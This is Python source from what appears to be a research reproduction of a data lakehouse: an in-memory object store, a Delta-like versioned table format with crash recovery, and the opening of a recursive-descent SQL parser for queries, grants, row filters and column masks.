        self._check(credential, path, StorageOp.READ)
        try:
            data = self._objects[path]
        except KeyError:
            raise StorageError(f"no such object: '{path}'") from None
        if self.read_latency_seconds > 0:
            time.sleep(self.read_latency_seconds)
        self.stats.bytes_read += len(data)
        self.stats.objects_read += 1
        if decision is not None:
            data = decision.apply(data)
        return data

    def exists(self, path: str, credential: StorageCredential) -> bool:
        self._check(credential, path, StorageOp.LIST)
        return path in self._objects

    def list(self, prefix: str, credential: StorageCredential) -> list[str]:
        """All object paths under ``prefix``, sorted."""
        if self.faults is not None:
            self.faults.fire("storage.list")
        self._check(credential, prefix, StorageOp.LIST)
        return sorted(p for p in self._objects if p.startswith(prefix))

    def delete(self, path: str, credential: StorageCredential) -> None:
        self._check(credential, path, StorageOp.DELETE)
        self._objects.pop(path, None)

    def size_of(self, path: str, credential: StorageCredential) -> int:
        self._check(credential, path, StorageOp.LIST)
        try:
            return len(self._objects[path])
        except KeyError:
            raise StorageError(f"no such object: '{path}'") from None

    def total_bytes(self, prefix: str = "") -> int:
        """Unauthenticated administrative size accounting (for cost models)."""
        return sum(len(d) for p, d in self._objects.items() if p.startswith(prefix))

    def object_count(self, prefix: str = "") -> int:
        """Unauthenticated administrative object count (for cost models)."""
        return sum(1 for p in self._objects if p.startswith(prefix))
