"""A Delta-like versioned table format on top of the object store.

Layout under a table root (e.g. ``s3://bucket/warehouse/sales``):

- ``<root>/_txn_log/<version>.json`` — one JSON commit per version, listing
  ``add`` / ``remove`` file actions and table metadata.
- ``<root>/data/<file-id>.part`` — immutable data files; each is a pickled
  ``dict[column_name, list_of_values]`` chunk.

This mirrors the two properties of Delta the paper relies on:

1. data files are plain cloud objects — anyone with a storage credential for
   the prefix can read *all* of their bytes (why FGAC needs a trusted engine);
2. the log gives snapshot isolation and time travel, which the replica
   baseline uses to quantify staleness.
"""

from __future__ import annotations

import json
import pickle
from dataclasses import dataclass

from repro.common.ids import sequential_id
from repro.errors import (
    CommitConflictError,
    CorruptObjectError,
    RetryableError,
    StorageError,
)
from repro.storage.object_store import ObjectStore, StorageCredential

#: Bounded retries for transaction-log reads. The log is tiny JSON read on
#: every snapshot resolution — a transient GET flake here would fail whole
#: queries before any per-task recovery could engage, so the table format
#: absorbs it locally (deadline-aware via the ambient query context).
LOG_READ_RETRIES = 4
LOG_READ_RETRY_BASE = 0.01

#: Bounded rebase-and-recommit attempts after a lost commit race. Blind
#: appends/overwrites are position-independent, so losing the race to
#: version N just means recommitting the same file set at N+1.
COMMIT_RETRIES = 4

#: Extra confirming reads before a corrupt tip commit is classified as
#: *torn* (a crashed writer's partial commit) rather than a transient
#: corrupt GET. Injected corruption re-draws per read, so consecutive
#: corrupt reads of a durable commit are vanishingly unlikely; a torn
#: object is corrupt on every read.
TORN_CONFIRM_READS = 2


def _log_path(root: str, version: int) -> str:
    return f"{root}/_txn_log/{version:010d}.json"


@dataclass(frozen=True)
class DataFile:
    """One immutable data file: path plus cheap statistics."""

    path: str
    num_rows: int
    size_bytes: int


@dataclass(frozen=True)
class TableSnapshot:
    """The set of live data files of a table at one version."""

    root: str
    version: int
    column_names: tuple[str, ...]
    files: tuple[DataFile, ...]

    @property
    def num_rows(self) -> int:
        return sum(f.num_rows for f in self.files)

    @property
    def size_bytes(self) -> int:
        return sum(f.size_bytes for f in self.files)


class LakeTableStorage:
    """Reader/writer for one versioned table rooted at an object-store prefix."""

    def __init__(self, store: ObjectStore, root: str):
        self._store = store
        self.root = root.rstrip("/")

    # -- commit log ----------------------------------------------------------

    def _with_log_retry(self, fn):
        """Run one log read, absorbing transient storage faults."""
        from repro.scheduler.circuit_breaker import retry_with_backoff

        return retry_with_backoff(
            fn,
            clock=self._store.clock,
            retries=LOG_READ_RETRIES,
            base_delay=LOG_READ_RETRY_BASE,
            retry_on=(RetryableError,),
        )

    def latest_version(self, credential: StorageCredential) -> int:
        """Highest committed version, or -1 if the table was never created."""
        entries = self._with_log_retry(
            lambda: self._store.list(f"{self.root}/_txn_log/", credential)
        )
        if not entries:
            return -1
        last = entries[-1].rsplit("/", 1)[-1]
        return int(last.split(".", 1)[0])

    def _read_commit(self, version: int, credential: StorageCredential) -> dict:
        raw = self._with_log_retry(
            lambda: self._store.get(_log_path(self.root, version), credential)
        )
        try:
            return json.loads(raw.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as exc:
            raise CorruptObjectError(
                f"commit {version} of '{self.root}' is corrupt: "
                f"{type(exc).__name__}"
            ) from exc

    def _commit(
        self,
        version: int,
        actions: list[dict],
        column_names: list[str],
        credential: StorageCredential,
    ) -> None:
        """Atomically claim ``version`` in the log (the commit point).

        Routed through :meth:`~repro.storage.object_store.ObjectStore
        .put_if_absent`: of N writers racing for the same version, exactly
        one wins; the rest get :class:`~repro.errors.CommitConflictError`
        and must rebase onto the new tip instead of clobbering it.
        """
        payload = json.dumps(
            {"version": version, "columns": column_names, "actions": actions}
        ).encode("utf-8")
        path = _log_path(self.root, version)
        try:
            self._store.put_if_absent(path, payload, credential)
        except CommitConflictError:
            # Usually a racing commit won the version. But if the claimant
            # is a *torn* entry from a crashed writer, the version never
            # became durable — roll it back and claim it for real (needs
            # DELETE; without it the conflict propagates and recovery is
            # left to an explicit ``recover()``).
            if not self._tip_is_torn(version, credential):
                raise
            try:
                self._store.delete(path, credential)
            except StorageError:
                raise CommitConflictError(
                    f"version {version} of '{self.root}' is torn and this "
                    "credential cannot roll it back"
                ) from None
            self._store.put_if_absent(path, payload, credential)

    def commit_version(
        self,
        version: int,
        actions: list[dict],
        column_names: list[str],
        credential: StorageCredential,
    ) -> None:
        """Public atomic commit at an explicit version (transaction tier).

        The transaction manager materializes its write set first, then
        calls this to publish it; a :class:`~repro.errors
        .CommitConflictError` means another commit claimed the version and
        the transaction must conflict-check against the new tip.
        """
        self._commit(version, actions, list(column_names), credential)

    def _with_commit_retry(self, fn):
        """Run one commit attempt, rebasing onto the new tip on a lost race."""
        from repro.scheduler.circuit_breaker import retry_with_backoff

        return retry_with_backoff(
            fn,
            clock=self._store.clock,
            retries=COMMIT_RETRIES,
            base_delay=LOG_READ_RETRY_BASE,
            retry_on=(CommitConflictError,),
        )

    # -- writes ---------------------------------------------------------------

    def create(self, column_names: list[str], credential: StorageCredential) -> None:
        """Initialize an empty table at version 0."""
        if self.latest_version(credential) >= 0:
            raise StorageError(f"table already exists at '{self.root}'")
        if not column_names:
            raise StorageError("a table needs at least one column")
        self._commit(0, [], list(column_names), credential)

    def _write_data_file(
        self, columns: dict[str, list], credential: StorageCredential
    ) -> DataFile:
        lengths = {len(v) for v in columns.values()}
        if len(lengths) > 1:
            raise StorageError(f"ragged columns: lengths {sorted(lengths)}")
        num_rows = lengths.pop() if lengths else 0
        # Ordered ids keep snapshot file enumeration in commit order.
        path = f"{self.root}/data/{sequential_id('part')}.part"
        blob = pickle.dumps(columns, protocol=pickle.HIGHEST_PROTOCOL)
        self._store.put(path, blob, credential)
        return DataFile(path=path, num_rows=num_rows, size_bytes=len(blob))

    def stage_data_file(
        self, columns: dict[str, list], credential: StorageCredential
    ) -> DataFile:
        """Write one data file without committing it (transaction tier).

        The file stays invisible until a later :meth:`commit_version` adds
        it; a crash or abort between the two leaves an orphan that
        :meth:`recover` garbage-collects.
        """
        return self._write_data_file(columns, credential)

    def append(
        self, columns: dict[str, list], credential: StorageCredential
    ) -> TableSnapshot:
        """Commit a new version adding one data file with ``columns``.

        Concurrency-safe: the data file is written once, then the commit
        rebases onto whatever tip it finds — an append is position-
        independent, so losing the race to version N just means claiming
        N+1 instead (bounded by :data:`COMMIT_RETRIES`).
        """
        snapshot = self.snapshot(credential)
        self._validate_columns(columns, snapshot.column_names)
        data_file = self._write_data_file(columns, credential)

        def attempt() -> None:
            tip = self.snapshot(credential)
            self._commit(
                tip.version + 1,
                [self._add_action(data_file)],
                list(tip.column_names),
                credential,
            )

        self._with_commit_retry(attempt)
        return self.snapshot(credential)

    def overwrite(
        self, columns: dict[str, list], credential: StorageCredential
    ) -> TableSnapshot:
        """Commit a version replacing all live files with one new file.

        The remove set is recomputed against the fresh tip on every commit
        attempt, so a lost race never resurrects files another writer
        already replaced.
        """
        snapshot = self.snapshot(credential)
        self._validate_columns(columns, snapshot.column_names)
        data_file = self._write_data_file(columns, credential)

        def attempt() -> None:
            tip = self.snapshot(credential)
            actions = [{"remove": f.path} for f in tip.files]
            actions.append(self._add_action(data_file))
            self._commit(
                tip.version + 1, actions, list(tip.column_names), credential
            )

        self._with_commit_retry(attempt)
        return self.snapshot(credential)

    @staticmethod
    def _add_action(data_file: DataFile) -> dict:
        return {
            "add": data_file.path,
            "rows": data_file.num_rows,
            "bytes": data_file.size_bytes,
        }

    @staticmethod
    def _validate_columns(
        columns: dict[str, list], expected: tuple[str, ...]
    ) -> None:
        if tuple(columns.keys()) != expected:
            raise StorageError(
                f"column mismatch: table has {list(expected)}, "
                f"write has {list(columns.keys())}"
            )

    # -- reads ----------------------------------------------------------------

    def snapshot(
        self, credential: StorageCredential, version: int | None = None
    ) -> TableSnapshot:
        """Resolve the live file set at ``version`` (default: latest).

        Crash recovery, reader half: a *torn tip* — the newest log entry is
        stably corrupt, i.e. a writer crashed mid-commit — is treated as if
        the commit never happened, and the snapshot resolves to the last
        durable version. Readers never see a partial commit. (The physical
        rollback — deleting the torn entry and sweeping its orphaned data
        files — needs write/delete rights and happens in :meth:`recover`.)
        """
        latest = self.latest_version(credential)
        if latest < 0:
            raise StorageError(f"no table at '{self.root}'")
        target = latest if version is None else version
        if target < 0 or target > latest:
            raise StorageError(
                f"version {target} out of range [0, {latest}] for '{self.root}'"
            )
        live: dict[str, DataFile] = {}
        column_names: tuple[str, ...] = ()
        v = 0
        while v <= target:
            try:
                commit = self._read_commit(v, credential)
            except CorruptObjectError:
                if (
                    version is None
                    and v == target
                    and self._tip_is_torn(v, credential)
                ):
                    target -= 1
                    if target < 0:
                        raise StorageError(
                            f"no durable commit at '{self.root}' "
                            "(version 0 is torn)"
                        ) from None
                    break
                raise
            column_names = tuple(commit["columns"])
            for action in commit["actions"]:
                if "add" in action:
                    live[action["add"]] = DataFile(
                        path=action["add"],
                        num_rows=action["rows"],
                        size_bytes=action["bytes"],
                    )
                elif "remove" in action:
                    live.pop(action["remove"], None)
            v += 1
        return TableSnapshot(
            root=self.root,
            version=target,
            column_names=column_names,
            files=tuple(live[p] for p in sorted(live)),
        )

    def _tip_is_torn(self, version: int, credential: StorageCredential) -> bool:
        """Confirm a corrupt tip read is a torn commit, not a flaky GET.

        Re-reads the entry :data:`TORN_CONFIRM_READS` more times; only a
        commit that is corrupt on *every* read is torn. Injected corruption
        is drawn independently per read, so this misclassifies a durable
        commit with probability ``rate^(1+TORN_CONFIRM_READS)``.
        """
        for _ in range(TORN_CONFIRM_READS):
            try:
                self._read_commit(version, credential)
            except CorruptObjectError:
                continue
            return False
        return True

    def recover(self, credential: StorageCredential) -> dict[str, int]:
        """Crash recovery, writer half: roll back torn tips, sweep orphans.

        Needs a credential with WRITE/DELETE on the table prefix. Deletes
        stably-corrupt tip commits (a crashed writer's partial publish),
        then garbage-collects every data file no surviving commit ever
        added — files staged by crashed or aborted transactions. Returns
        ``{"torn_commits_rolled_back": n, "orphan_files_swept": m}``.

        Invoked explicitly (table repair / reopening a table after a crash)
        rather than on every commit: a concurrent writer that has staged
        data files but not yet committed would look exactly like a crash.
        """
        report = {"torn_commits_rolled_back": 0, "orphan_files_swept": 0}
        latest = self.latest_version(credential)
        while latest >= 0:
            try:
                self._read_commit(latest, credential)
                break
            except CorruptObjectError:
                if not self._tip_is_torn(latest, credential):
                    break  # transient corrupt read of a durable commit
                self._store.delete(_log_path(self.root, latest), credential)
                report["torn_commits_rolled_back"] += 1
                latest -= 1
        referenced: set[str] = set()
        for v in range(latest + 1):
            commit = self._read_commit(v, credential)
            for action in commit["actions"]:
                if "add" in action:
                    referenced.add(action["add"])
        data_files = self._with_log_retry(
            lambda: self._store.list(f"{self.root}/data/", credential)
        )
        for path in data_files:
            if path not in referenced:
                self._store.delete(path, credential)
                report["orphan_files_swept"] += 1
        return report

    def read_file(
        self, data_file: DataFile, credential: StorageCredential
    ) -> dict[str, list]:
        """Read one data file fully (object-level access: all bytes or none).

        A blob that fails to unpickle raises
        :class:`~repro.errors.CorruptObjectError` — retryable, because a
        corrupt read models a mangled response, not mangled storage; the
        scan-task recovery path re-reads it.
        """
        blob = self._store.get(data_file.path, credential)
        try:
            return pickle.loads(blob)
        except Exception as exc:  # noqa: BLE001 - any unpickle failure
            raise CorruptObjectError(
                f"data file '{data_file.path}' is corrupt: "
                f"{type(exc).__name__}: {exc}"
            ) from exc

    def read_raw(
        self, data_file: DataFile, credential: StorageCredential
    ) -> bytes:
        """Read one data file's raw bytes without deserializing.

        The process execution backend ships the blob into a worker through
        shared memory and unpickles it *there*; credential checks, injected
        storage faults and byte accounting still happen in this (driver)
        process, exactly as with :meth:`read_file`.
        """
        return self._store.get(data_file.path, credential)

    def read_all(
        self, credential: StorageCredential, version: int | None = None
    ) -> dict[str, list]:
        """Concatenate every live file into one column dict (test helper)."""
        snapshot = self.snapshot(credential, version)
        out: dict[str, list] = {name: [] for name in snapshot.column_names}
        for data_file in snapshot.files:
            chunk = self.read_file(data_file, credential)
            for name in snapshot.column_names:
                out[name].extend(chunk[name])
        return out
