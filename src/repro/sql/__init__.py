"""A SQL subset front-end.

Covers what the paper's workloads need: SELECT with joins, grouping,
HAVING, ORDER BY, LIMIT and UNION ALL; DDL for views, tables, grants,
row filters, and column masks; INSERT VALUES. Dynamic-view primitives
(``CURRENT_USER()``, ``IS_ACCOUNT_GROUP_MEMBER()``) parse as first-class
expressions.
"""

from repro.sql.parser import parse_expression, parse_statement
from repro.sql.to_plan import PlanBuilder, FunctionLookup

__all__ = ["parse_statement", "parse_expression", "PlanBuilder", "FunctionLookup"]
