"""Recursive-descent SQL parser."""

from __future__ import annotations

from typing import Any

from repro.engine.aggregates import AGGREGATE_FUNCTIONS, AggregateCall
from repro.engine.expressions import (
    Arithmetic,
    BooleanOp,
    CaseWhen,
    Cast,
    Comparison,
    CurrentUser,
    Expression,
    FunctionCall,
    InList,
    IsAccountGroupMember,
    IsNull,
    Like,
    Literal,
    Not,
    Star,
    UnresolvedColumn,
)
from repro.engine.expressions import BUILTIN_FUNCTIONS
from repro.engine.types import type_from_name
from repro.errors import ParseError
from repro.sql import ast_nodes as ast
from repro.sql.lexer import EOF, IDENT, KEYWORD, NUMBER, OP, STRING, Token, tokenize


class UnresolvedFunction(Expression):
    """A function call whose name is not an engine built-in or aggregate.

    Resolved by the plan builder against session / catalog UDFs.
    """

    def __init__(self, name: str, args: tuple[Expression, ...]):
        super().__init__(args)
        self.name = name

    @property
    def resolved(self) -> bool:
        return False

    def with_children(self, children):
        return UnresolvedFunction(self.name, tuple(children))

    def eval(self, batch, ctx):
        raise ParseError(f"unresolved function '{self.name}' reached execution")

    def __str__(self):
        return f"{self.name}({', '.join(str(c) for c in self.children)})"


class _Parser:
    def __init__(self, text: str):
        self.text = text
        self.tokens = tokenize(text)
        self.pos = 0

    # -- stream helpers -----------------------------------------------------------

    def peek(self, ahead: int = 0) -> Token:
        index = min(self.pos + ahead, len(self.tokens) - 1)
        return self.tokens[index]

    def advance(self) -> Token:
        token = self.tokens[self.pos]
        if token.kind != EOF:
            self.pos += 1
        return token

    def accept_kw(self, *words: str) -> bool:
        token = self.peek()
        if token.kind == KEYWORD and token.value in {w.upper() for w in words}:
            self.advance()
            return True
        return False

    def expect_kw(self, word: str) -> Token:
        token = self.peek()
        if not token.matches_keyword(word):
            raise ParseError(
                f"expected keyword {word!r}, found {token.value!r}", token.position
            )
        return self.advance()

    def accept_op(self, op: str) -> bool:
        token = self.peek()
        if token.kind == OP and token.value == op:
            self.advance()
            return True
        return False

    def expect_op(self, op: str) -> Token:
        token = self.peek()
        if not (token.kind == OP and token.value == op):
            raise ParseError(
                f"expected {op!r}, found {token.value!r}", token.position
            )
        return self.advance()

    def expect_ident(self) -> str:
        token = self.peek()
        # Allow non-reserved use of some keywords as identifiers is skipped
        # for simplicity: identifiers must not be keywords.
        if token.kind != IDENT:
            raise ParseError(
                f"expected identifier, found {token.value!r}", token.position
            )
        self.advance()
        return token.value

    def qualified_name(self) -> str:
        parts = [self.expect_ident()]
        while self.peek().kind == OP and self.peek().value == "." and (
            self.peek(1).kind == IDENT
        ):
            self.advance()
            parts.append(self.expect_ident())
        return ".".join(parts)

    def at_end(self) -> bool:
        if self.peek().kind == OP and self.peek().value == ";":
            self.advance()
        return self.peek().kind == EOF

    # ------------------------------------------------------------------
    # Statements
    # ------------------------------------------------------------------

    def parse_statement(self) -> ast.Statement:
        token = self.peek()
        if token.matches_keyword("SELECT"):
            stmt = self.parse_query()
        elif token.matches_keyword("CREATE"):
            stmt = self._parse_create()
        elif token.matches_keyword("INSERT"):
            stmt = self._parse_insert()
        elif token.matches_keyword("UPDATE"):
            stmt = self._parse_update()
        elif token.matches_keyword("DELETE"):
            stmt = self._parse_delete()
        elif token.matches_keyword("MERGE"):
            stmt = self._parse_merge()
        elif token.matches_keyword("BEGIN"):
            self.advance()
            self.accept_kw("TRANSACTION")
            stmt = ast.BeginStatement()
        elif token.matches_keyword("COMMIT"):
            self.advance()
            stmt = ast.CommitStatement()
        elif token.matches_keyword("ROLLBACK"):
            self.advance()
            stmt = ast.RollbackStatement()
        elif token.matches_keyword("GRANT"):
            stmt = self._parse_grant(revoke=False)
        elif token.matches_keyword("REVOKE"):
            stmt = self._parse_grant(revoke=True)
        elif token.matches_keyword("ALTER"):
            stmt = self._parse_alter()
        elif token.matches_keyword("DROP"):
            stmt = self._parse_drop()
        elif token.matches_keyword("SHOW"):
            stmt = self._parse_show()
        elif token.matches_keyword("DESCRIBE"):
            self.advance()
            self.accept_kw("TABLE")
            stmt = ast.DescribeStatement(self.qualified_name())
        else:
            raise ParseError(
                f"cannot parse statement starting with {token.value!r}",
                token.position,
            )
        if not self.at_end():
            extra = self.peek()
            raise ParseError(
                f"unexpected trailing input {extra.value!r}", extra.position
            )
        return stmt

    def _parse_create(self) -> ast.Statement:
        self.expect_kw("CREATE")
        or_replace = False
        if self.accept_kw("OR"):
            self.expect_kw("REPLACE")
            or_replace = True
        materialized = self.accept_kw("MATERIALIZED")
        if self.accept_kw("VIEW"):
            name = self.qualified_name()
            as_token = self.expect_kw("AS")
            query_start = self.peek().position
            # Validate the defining query parses, then keep its raw text.
            self.parse_query()
            query_sql = self.text[query_start:].rstrip().rstrip(";")
            return ast.CreateViewStatement(
                name=name,
                query_sql=query_sql,
                materialized=materialized,
                or_replace=or_replace,
            )
        if materialized:
            raise ParseError("MATERIALIZED requires VIEW", self.peek().position)
        self.expect_kw("TABLE")
        name = self.qualified_name()
        if self.accept_kw("AS"):
            query_start = self.peek().position
            self.parse_query()
            query_sql = self.text[query_start:].rstrip().rstrip(";")
            return ast.CreateTableAsSelectStatement(name=name, query_sql=query_sql)
        self.expect_op("(")
        columns: list[tuple[str, str]] = []
        while True:
            col_name = self.expect_ident()
            col_type = self.expect_ident()
            type_from_name(col_type)  # validate early
            columns.append((col_name, col_type))
            if not self.accept_op(","):
                break
        self.expect_op(")")
        return ast.CreateTableStatement(name=name, columns=columns)

    def _parse_insert(self) -> ast.InsertStatement:
        self.expect_kw("INSERT")
        self.expect_kw("INTO")
        table = self.qualified_name()
        if self.peek().matches_keyword("SELECT"):
            query_start = self.peek().position
            self.parse_query()  # validate; keep the raw text
            query_sql = self.text[query_start:].rstrip().rstrip(";")
            return ast.InsertStatement(table=table, rows=[], query_sql=query_sql)
        self.expect_kw("VALUES")
        rows: list[list[Any]] = []
        while True:
            self.expect_op("(")
            row: list[Any] = []
            while True:
                row.append(self._parse_literal_value())
                if not self.accept_op(","):
                    break
            self.expect_op(")")
            rows.append(row)
            if not self.accept_op(","):
                break
        return ast.InsertStatement(table=table, rows=rows)

    def _parse_literal_value(self) -> Any:
        expr = self.parse_expr()
        if isinstance(expr, Literal):
            return expr.value
        # Constant expressions (CAST('01' AS binary), 1+2, ...) are allowed;
        # they must not reference columns or session state.
        if any(isinstance(n, (UnresolvedColumn, CurrentUser)) for n in expr.walk()):
            raise ParseError("INSERT VALUES entries must be constants")
        from repro.engine.batch import ONE_ROW
        from repro.engine.expressions import EvalContext

        return expr.eval(ONE_ROW, EvalContext())[0]

    def _parse_assignments(self) -> list[tuple[str, Expression]]:
        """``col = expr [, ...]`` after SET (UPDATE and MERGE share it)."""
        assignments: list[tuple[str, Expression]] = []
        while True:
            column = self.qualified_name()
            self.expect_op("=")
            assignments.append((column, self.parse_expr()))
            if not self.accept_op(","):
                break
        return assignments

    def _parse_update(self) -> ast.UpdateStatement:
        self.expect_kw("UPDATE")
        table = self.qualified_name()
        self.expect_kw("SET")
        assignments = self._parse_assignments()
        where = self.parse_expr() if self.accept_kw("WHERE") else None
        return ast.UpdateStatement(table=table, assignments=assignments,
                                   where=where)

    def _parse_delete(self) -> ast.DeleteStatement:
        self.expect_kw("DELETE")
        self.expect_kw("FROM")
        table = self.qualified_name()
        where = self.parse_expr() if self.accept_kw("WHERE") else None
        return ast.DeleteStatement(table=table, where=where)

    def _parse_merge(self) -> ast.MergeStatement:
        self.expect_kw("MERGE")
        self.expect_kw("INTO")
        target = self.qualified_name()
        target_alias = self._accept_alias()
        self.expect_kw("USING")
        source = self.qualified_name()
        source_alias = self._accept_alias()
        self.expect_kw("ON")
        on = self.parse_expr()
        matched_assignments: list[tuple[str, Expression]] | None = None
        matched_delete = False
        insert_values: list[Expression] | None = None
        saw_when = False
        while self.accept_kw("WHEN"):
            saw_when = True
            if self.accept_kw("MATCHED"):
                if matched_assignments is not None or matched_delete:
                    raise ParseError(
                        "MERGE supports at most one WHEN MATCHED clause",
                        self.peek().position,
                    )
                self.expect_kw("THEN")
                if self.accept_kw("UPDATE"):
                    self.expect_kw("SET")
                    matched_assignments = self._parse_assignments()
                else:
                    self.expect_kw("DELETE")
                    matched_delete = True
                continue
            self.expect_kw("NOT")
            self.expect_kw("MATCHED")
            if insert_values is not None:
                raise ParseError(
                    "MERGE supports at most one WHEN NOT MATCHED clause",
                    self.peek().position,
                )
            self.expect_kw("THEN")
            self.expect_kw("INSERT")
            self.expect_kw("VALUES")
            self.expect_op("(")
            insert_values = [self.parse_expr()]
            while self.accept_op(","):
                insert_values.append(self.parse_expr())
            self.expect_op(")")
        if not saw_when:
            raise ParseError(
                "MERGE requires at least one WHEN clause", self.peek().position
            )
        return ast.MergeStatement(
            target=target,
            source=source,
            on=on,
            target_alias=target_alias,
            source_alias=source_alias,
            matched_assignments=matched_assignments,
            matched_delete=matched_delete,
            insert_values=insert_values,
        )

    def _accept_alias(self) -> str | None:
        if self.accept_kw("AS"):
            return self.expect_ident()
        if self.peek().kind == IDENT:
            return self.expect_ident()
        return None

    def _parse_grant(self, revoke: bool) -> ast.Statement:
        self.expect_kw("REVOKE" if revoke else "GRANT")
        token = self.advance()
        if token.kind not in (IDENT, KEYWORD):
            raise ParseError("expected a privilege name", token.position)
        privilege = token.value.upper()
        # Two-word privileges such as USE CATALOG / USE SCHEMA.
        if privilege == "USE":
            second = self.advance()
            privilege = f"USE_{second.value.upper()}"
        self.expect_kw("ON")
        securable = self.qualified_name()
        if revoke:
            self.expect_kw("FROM")
        else:
            self.expect_kw("TO")
        token = self.peek()
        if token.kind == STRING:
            principal = self.advance().value
        else:
            principal = self.qualified_name()
        if revoke:
            return ast.RevokeStatement(privilege, securable, principal)
        return ast.GrantStatement(privilege, securable, principal)

    def _parse_alter(self) -> ast.Statement:
        self.expect_kw("ALTER")
        self.expect_kw("TABLE")
        table = self.qualified_name()
        if self.accept_kw("SET"):
            self.expect_kw("ROW")
            self.expect_kw("FILTER")
            self.expect_op("(")
            condition = self.parse_expr()
            self.expect_op(")")
            return ast.SetRowFilterStatement(table=table, condition=condition)
        if self.accept_kw("DROP"):
            self.expect_kw("ROW")
            self.expect_kw("FILTER")
            return ast.DropRowFilterStatement(table=table)
        self.expect_kw("ALTER")
        self.expect_kw("COLUMN")
        column = self.expect_ident()
        if self.accept_kw("SET"):
            self.expect_kw("MASK")
            self.expect_op("(")
            mask = self.parse_expr()
            self.expect_op(")")
            return ast.SetColumnMaskStatement(table=table, column=column, mask=mask)
        self.expect_kw("DROP")
        self.expect_kw("MASK")
        return ast.DropColumnMaskStatement(table=table, column=column)

    def _parse_drop(self) -> ast.DropObjectStatement:
        self.expect_kw("DROP")
        if self.accept_kw("TABLE"):
            kind = "TABLE"
        elif self.accept_kw("VIEW"):
            kind = "VIEW"
        else:
            raise ParseError(
                "DROP supports TABLE and VIEW", self.peek().position
            )
        return ast.DropObjectStatement(kind=kind, name=self.qualified_name())

    def _parse_show(self) -> ast.ShowGrantsStatement:
        self.expect_kw("SHOW")
        self.expect_kw("GRANTS")
        self.expect_kw("ON")
        return ast.ShowGrantsStatement(securable=self.qualified_name())

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------

    def parse_query(self) -> ast.QueryStatement:
        first = self._parse_select()
        selects = [first]
        while self.peek().matches_keyword("UNION"):
            self.advance()
            self.expect_kw("ALL")
            selects.append(self._parse_select())
        if len(selects) == 1:
            return first
        return ast.UnionStatement(inputs=selects)

    def _parse_select(self) -> ast.SelectStatement:
        self.expect_kw("SELECT")
        distinct = self.accept_kw("DISTINCT")
        items = [self._parse_select_item()]
        while self.accept_op(","):
            items.append(self._parse_select_item())

        source: ast.FromSource | None = None
        joins: list[ast.JoinClause] = []
        if self.accept_kw("FROM"):
            source = self._parse_from_source()
            joins = self._parse_joins()

        where = self.parse_expr() if self.accept_kw("WHERE") else None

        group_by: list[Expression] = []
        if self.accept_kw("GROUP"):
            self.expect_kw("BY")
            group_by.append(self.parse_expr())
            while self.accept_op(","):
                group_by.append(self.parse_expr())

        having = self.parse_expr() if self.accept_kw("HAVING") else None

        order_by: list[ast.OrderItem] = []
        if self.accept_kw("ORDER"):
            self.expect_kw("BY")
            order_by.append(self._parse_order_item())
            while self.accept_op(","):
                order_by.append(self._parse_order_item())

        limit: int | None = None
        offset = 0
        if self.accept_kw("LIMIT"):
            limit = self._parse_int()
            if self.accept_kw("OFFSET"):
                offset = self._parse_int()

        return ast.SelectStatement(
            items=items,
            source=source,
            joins=joins,
            where=where,
            group_by=group_by,
            having=having,
            order_by=order_by,
            limit=limit,
            offset=offset,
            distinct=distinct,
        )

    def _parse_int(self) -> int:
        token = self.peek()
        if token.kind != NUMBER or any(c in token.value for c in ".eE"):
            raise ParseError("expected an integer", token.position)
        self.advance()
        return int(token.value)

    def _parse_select_item(self) -> ast.SelectItem:
        token = self.peek()
        if token.kind == OP and token.value == "*":
            self.advance()
            return ast.SelectItem(Star())
        # qualified star: ident.*
        if (
            token.kind == IDENT
            and self.peek(1).kind == OP
            and self.peek(1).value == "."
            and self.peek(2).kind == OP
            and self.peek(2).value == "*"
        ):
            qualifier = self.expect_ident()
            self.advance()  # .
            self.advance()  # *
            return ast.SelectItem(Star(qualifier))
        expr = self.parse_expr()
        alias: str | None = None
        if self.accept_kw("AS"):
            alias = self.expect_ident()
        elif self.peek().kind == IDENT:
            alias = self.expect_ident()
        return ast.SelectItem(expr, alias)

    def _parse_from_source(self) -> ast.FromSource:
        if self.accept_op("("):
            query = self.parse_query()
            self.expect_op(")")
            self.accept_kw("AS")
            alias = self.expect_ident()
            return ast.SubquerySource(query=query, alias=alias)
        name = self.qualified_name()
        alias: str | None = None
        if self.accept_kw("AS"):
            alias = self.expect_ident()
        elif self.peek().kind == IDENT:
            alias = self.expect_ident()
        return ast.TableSource(name=name, alias=alias)

    def _parse_joins(self) -> list[ast.JoinClause]:
        joins: list[ast.JoinClause] = []
        while True:
            how = None
            if self.accept_kw("INNER"):
                how = "inner"
            elif self.accept_kw("LEFT"):
                how = "left"
            elif self.accept_kw("RIGHT"):
                how = "right"
            elif self.accept_kw("FULL"):
                how = "full"
            elif self.accept_kw("CROSS"):
                how = "cross"
            elif self.accept_kw("SEMI"):
                how = "semi"
            elif self.accept_kw("ANTI"):
                how = "anti"
            if how is None:
                if self.peek().matches_keyword("JOIN"):
                    how = "inner"
                else:
                    break
            self.expect_kw("JOIN")
            source = self._parse_from_source()
            condition: Expression | None = None
            if how != "cross":
                self.expect_kw("ON")
                condition = self.parse_expr()
            joins.append(ast.JoinClause(how=how, source=source, condition=condition))
        return joins

    def _parse_order_item(self) -> ast.OrderItem:
        expr = self.parse_expr()
        ascending = True
        if self.accept_kw("DESC"):
            ascending = False
        else:
            self.accept_kw("ASC")
        nulls_first: bool | None = None
        if self.accept_kw("NULLS"):
            if self.accept_kw("FIRST"):
                nulls_first = True
            else:
                self.expect_kw("LAST")
                nulls_first = False
        return ast.OrderItem(expr, ascending, nulls_first)

    # ------------------------------------------------------------------
    # Expressions (precedence climbing)
    # ------------------------------------------------------------------

    def parse_expr(self) -> Expression:
        return self._parse_or()

    def _parse_or(self) -> Expression:
        left = self._parse_and()
        while self.accept_kw("OR"):
            left = BooleanOp("OR", left, self._parse_and())
        return left

    def _parse_and(self) -> Expression:
        left = self._parse_not()
        while self.accept_kw("AND"):
            left = BooleanOp("AND", left, self._parse_not())
        return left

    def _parse_not(self) -> Expression:
        if self.accept_kw("NOT"):
            return Not(self._parse_not())
        return self._parse_comparison()

    def _parse_comparison(self) -> Expression:
        left = self._parse_additive()
        token = self.peek()
        if token.kind == OP and token.value in ("=", "!=", "<", "<=", ">", ">="):
            op = self.advance().value
            return Comparison(op, left, self._parse_additive())
        if token.matches_keyword("IS"):
            self.advance()
            negated = self.accept_kw("NOT")
            self.expect_kw("NULL")
            return IsNull(left, negated=negated)
        negated = False
        if token.matches_keyword("NOT"):
